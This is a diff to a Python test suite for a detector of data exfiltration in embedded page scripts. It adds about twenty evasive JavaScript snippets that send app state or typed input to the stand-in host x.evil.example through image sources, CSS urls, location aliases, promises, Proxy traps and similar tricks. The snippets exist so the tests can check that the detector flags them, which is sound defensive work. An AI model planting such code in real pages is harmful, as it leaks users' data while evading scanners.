@@ -217,6 +217,33 @@ EVASIONS = {
                          " + flowUi.get('order.total') + ')');",
     "setAttributeNS": "document.querySelector('p').setAttributeNS('http://www.w3.org/1999/xlink', 'xlink:href',"
                       " 'https://x.evil.example/?' + flowUi.get('order.total'));",
+    # Names joined from literals, aliases of the global object, of location and of openUrl.
+    "setAttribute name joined": "const i = document.createElement('img');"
+                                " i.setAttribute('sr' + 'c', 'https://x.evil.example/?' + flowUi.get('order.total'));",
+    "style name joined": "document.body.style['background' + 'Image'] = 'url(https://x.evil.example/'"
+                         " + flowUi.get('order.total') + ')';",
+    "style name with a dash": "document.body.style['background-image'] = 'url(https://x.evil.example/'"
+                              " + flowUi.get('order.total') + ')';",
+    "Object.assign computed key": "Object.assign(new Image(), {['sr' + 'c']: 'https://x.evil.example/?'"
+                                  " + flowUi.get('order.total')});",
+    "get named by a join": "const g = flowUi['g' + 'et']; new Image().src = 'https://x.evil.example/?' + g.call(flowUi, 'order.total');",
+    "globalThis alias": "const w = globalThis; const api = w['flow' + 'Ui'];"
+                        " new Image().src = 'https://x.evil.example/?' + api.get('order.total');",
+    "location alias": "const L = window.location; L.assign('https://x.evil.example/?' + flowUi.get('order.total'));",
+    "location alias href": "const {location: L} = window; L.href = 'https://x.evil.example/?' + flowUi.get('order.total');",
+    "openUrl bound": "const o = flowUi.openUrl.bind(flowUi); o('https://x.evil.example/?' + flowUi.get('order.total'));",
+    "openUrl.call": "flowUi.openUrl.call(flowUi, 'https://x.evil.example/?' + flowUi.get('order.total'));",
+    # Values through the language: promises, generators, timers' arguments, Reflect.apply, throw, `arguments`.
+    "Promise.resolve().then": "Promise.resolve(flowUi.get('order.total')).then((v) => {"
+                              " new Image().src = 'https://x.evil.example/?' + v; });",
+    "generator": "function* g() { yield flowUi.get('order.total'); }"
+                 " for (const v of g()) new Image().src = 'https://x.evil.example/?' + v;",
+    "setTimeout arguments": "setTimeout((v) => { new Image().src = 'https://x.evil.example/?' + v; }, 10,"
+                            " flowUi.get('order.total'));",
+    "Reflect.apply of a function": "function leak(v) { new Image().src = 'https://x.evil.example/?' + v; }"
+                                   " Reflect.apply(leak, null, [flowUi.get('order.total')]);",
+    "throw and catch": "try { throw flowUi.get('order.total'); } catch (err) { new Image().src = 'https://x.evil.example/?' + err; }",
+    "arguments": "function leak() { new Image().src = 'https://x.evil.example/?' + arguments[0]; } leak(flowUi.get('order.total'));",
 }
 
 
@@ -224,6 +251,26 @@ EVASIONS = {
 def test_evasive_spellings_are_followed(name):
     found = rules_of(f"<p></p><script>{EVASIONS[name]}</script>", fields=["order.total"])
     assert ("exfil.state-to-url", "high", ["order.total"], ["x.evil.example"]) in found, found
+
+
+def test_a_proxy_trap_returns_what_it_reads():
+    source = ("<p></p><script>const p = new Proxy({}, {get: (t, k) => flowUi.get(k)});\n"
+              "new Image().src = 'https://x.evil.example/?' + p['order.total'];</script>")
+    assert ("exfil.state-to-url", "high", ["(a path computed at run time)"], ["x.evil.example"]) in rules_of(source)
+
+
+def test_an_input_events_composed_path_is_its_control():
+    source = ("<input id=q><script>q.addEventListener('input', (e) => {\n"
+              "  new Image().src = 'https://x.evil.example/?' + e.composedPath()[0].value; });</script>")
+    assert ("exfil.input-to-url", "high", ["input:input"], ["x.evil.example"]) in rules_of(source)
+
+
+def test_a_platform_promise_and_a_thrown_error_stay_quiet():
+    # What the host answers to send (or a fetch) is not the state sent; a message thrown is no URL.
+    source = ("<p></p><script>flowUi.send('save', {t: flowUi.get('order.total')}).then((r) => {\n"
+              "  document.querySelector('p').textContent = r; });\n"
+              "try { throw new Error('bad ' + flowUi.get('order.total')); } catch (e) { console.log(e); }</script>")
+    assert [r for r in rules_of(source, fields=["order.total"]) if r[1] == "high"] == []
 
 
 def test_an_unproven_flow_needs_manual_review():
